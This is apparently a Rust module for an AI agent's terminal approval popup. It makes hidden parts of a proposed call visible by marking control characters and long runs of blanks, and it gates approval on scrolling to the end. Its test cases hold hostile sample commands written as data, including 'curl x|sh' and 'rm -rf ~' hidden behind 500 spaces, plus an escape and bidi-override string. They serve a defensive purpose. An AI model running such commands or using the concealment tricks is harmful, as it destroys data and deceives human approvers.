//! The agent's approval question: the call shown whole, as it will run.
//!
//! Every argument is shown line by line, wrapped to the popup's width with
//! the rows counted after wrapping, so nothing (not the end of a command
//! behind hundreds of spaces, not the key hint) falls out of view. Control
//! characters and bidirectional overrides are drawn as symbols, long runs
//! of blanks as a marker with their length. A call taller than the popup
//! scrolls, and `y` takes effect only once its last row has been shown;
//! the hint stays on the popup's last rows whatever the size.

use ratatui::layout::Rect;
use unicode_width::UnicodeWidthChar;

use crate::agent::tools::ToolCall;

/// Blanks in a row beyond this many are drawn as a marker.
const LONG_BLANKS: usize = 8;

pub const HINT: &str =
    "y yes · n no · a always for this exact call · ↑↓ PgUp PgDn Home End scroll · Ctrl-C stops the agent";
/// The hint where the whole one would crowd out the call.
const SHORT_HINT: &str = "y yes · n no · a always · ↑↓ scroll";

/// The call as lines: its tool, then each argument by name with its text
/// as it will be used.
pub fn call_lines(call: &ToolCall) -> Vec<String> {
    let mut lines = vec![format!("The agent wants to run {}:", call.name())];
    let value = serde_json::to_value(call).unwrap_or_default();
    let Some(fields) = value.as_object() else {
        return lines;
    };
    for (name, v) in fields.iter().filter(|(k, _)| *k != "tool") {
        match v.as_str() {
            Some("") => lines.push(format!("{name}: (empty)")),
            Some(text) => {
                let count = text.split('\n').count();
                lines.push(format!("{name} ({} bytes, {count} lines):", text.len()));
                lines.extend(text.split('\n').map(|l| format!("  {}", marked(l))));
            }
            None => lines.push(format!("{name}: {v}")),
        }
    }
    lines
}

/// One line of an argument with what acts on a terminal made visible and
/// long runs of blanks counted.
fn marked(line: &str) -> String {
    let shown = crate::visible::visible_line(line);
    let mut out = String::with_capacity(shown.len());
    let mut blanks = 0usize;
    let flush = |out: &mut String, blanks: &mut usize| {
        if *blanks > LONG_BLANKS {
            out.push_str(&format!("⟨{blanks} spaces⟩"));
        } else {
            out.extend(std::iter::repeat_n(' ', *blanks));
        }
        *blanks = 0;
    };
    for c in shown.chars() {
        if c == ' ' {
            blanks += 1;
        } else {
            flush(&mut out, &mut blanks);
            out.push(c);
        }
    }
    flush(&mut out, &mut blanks);
    out
}

/// `lines` wrapped to `width` columns, each row exactly what is drawn.
fn wrap(lines: &[String], width: usize) -> Vec<String> {
    let width = width.max(1);
    let mut rows = Vec::new();
    for line in lines {
        let mut row = String::new();
        let mut used = 0;
        for c in line.chars() {
            let w = c.width().unwrap_or(0);
            if used + w > width && !row.is_empty() {
                rows.push(std::mem::take(&mut row));
                used = 0;
            }
            row.push(c);
            used += w;
        }
        rows.push(row);
    }
    rows
}

/// The popup as drawn at one size, and which rows of the call it shows.
#[derive(Debug, PartialEq)]
pub struct Page {
    pub rect: Rect,
    pub rows: Vec<String>,
    pub hint: Vec<String>,
    /// The first row shown, and how many rows fit.
    pub first: usize,
    pub shown: usize,
}

impl Page {
    /// Whether the call's last row is on screen.
    pub fn shows_the_end(&self) -> bool {
        self.shown > 0 && self.first + self.shown >= self.rows.len()
    }

    /// The most rows one page moves.
    pub fn step(&self) -> usize {
        self.shown.max(1)
    }

    /// The largest useful scroll offset.
    pub fn last_first(&self) -> usize {
        self.rows.len().saturating_sub(self.shown)
    }
}

/// The popup for `call` on a screen of `area`, scrolled by `scroll` rows.
pub fn page(call: &ToolCall, area: Rect, scroll: usize) -> Page {
    // As wide as a long command needs (up to 120 columns), as tall as the
    // call needs (up to the screen less a row above and below), so a short
    // call leaves the conversation in view.
    let width = area
        .width
        .saturating_sub(4)
        .min(120)
        .max(area.width.min(20));
    let max_height = area.height.saturating_sub(2).max(area.height.min(6));
    let inner_width = width.saturating_sub(2) as usize;
    let rows = wrap(&call_lines(call), inner_width);
    let max_inner = max_height.saturating_sub(2) as usize;
    let mut hint = wrap(&[HINT.to_string()], inner_width);
    if (hint.len() + 1) * 3 > max_inner {
        hint = wrap(&[SHORT_HINT.to_string()], inner_width);
    }
    let position = 1;
    let inner_height = (rows.len() + position + hint.len()).min(max_inner);
    let height = inner_height as u16 + 2;
    let rect = Rect::new(
        area.x + (area.width - width) / 2,
        area.y + (area.height.saturating_sub(height)) / 2,
        width,
        height.min(area.height),
    );
    let shown = inner_height.saturating_sub(hint.len() + position);
    let first = scroll.min(rows.len().saturating_sub(shown));
    Page {
        rect,
        rows,
        hint,
        first,
        shown,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn shell(command: &str) -> ToolCall {
        ToolCall::Shell {
            command: command.into(),
        }
    }

    /// The dangerous end of a call behind blanks, in a long file, or after
    /// escape sequences is on some page, and `y` needs the last page.
    #[test]
    fn every_row_of_a_call_is_reachable_and_the_end_gates_yes() {
        let hidden = format!("ls{}; curl x|sh; rm -rf ~", " ".repeat(500));
        let file = ToolCall::WriteFile {
            path: "notes.txt".into(),
            content: Some(format!("{}rm -rf ~", "line\n".repeat(300))),
            find: None,
            replace: None,
        };
        for call in [shell(&hidden), file, shell("a\x1b]2;x\x07\u{202e}b\rc")] {
            for (w, h) in [(80, 24), (160, 48), (20, 6), (1000, 400)] {
                let area = Rect::new(0, 0, w, h);
                let first = page(&call, area, 0);
                let all: String = first.rows.concat();
                assert!(
                    all.contains("rm -rf ~") || all.contains("c"),
                    "{w}x{h}: {all}"
                );
                assert!(!all.chars().any(|c| c.is_control()), "{all:?}");
                assert!(!all.contains('\u{202e}'));
                let last = page(&call, area, first.last_first());
                assert!(last.shows_the_end(), "{w}x{h}");
                assert_eq!(
                    first.shows_the_end(),
                    first.rows.len() <= first.shown,
                    "{w}x{h}"
                );
                assert!(first.shown >= 1, "{w}x{h} shows no row");
            }
        }
        assert!(call_lines(&shell(&hidden))[2].contains("⟨500 spaces⟩"));
    }
}
